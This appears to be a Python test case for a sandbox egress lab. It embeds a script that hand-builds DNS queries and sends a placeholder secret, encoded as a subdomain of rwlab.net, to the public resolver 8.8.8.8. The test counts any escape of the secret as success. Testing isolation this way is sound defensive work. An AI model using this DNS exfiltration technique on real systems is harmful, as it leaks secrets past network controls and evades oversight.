"""asks a public resolver for a TXT record"""

from evidence import secret_left as succeeded

SHAPE = "0DIN: the payload came in a TXT record"
PROMISE = "P24"
LAB = True
WALLS = "network-namespace"
PYTHON = """
import socket, struct
def query(name, kind):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    return b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + labels + b"\\0" + struct.pack(">HH", kind, 1)

for kind in (16, 28, 15, 255):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query("@SECRET@.rwlab.net", kind), ("8.8.8.8", 53))
"""
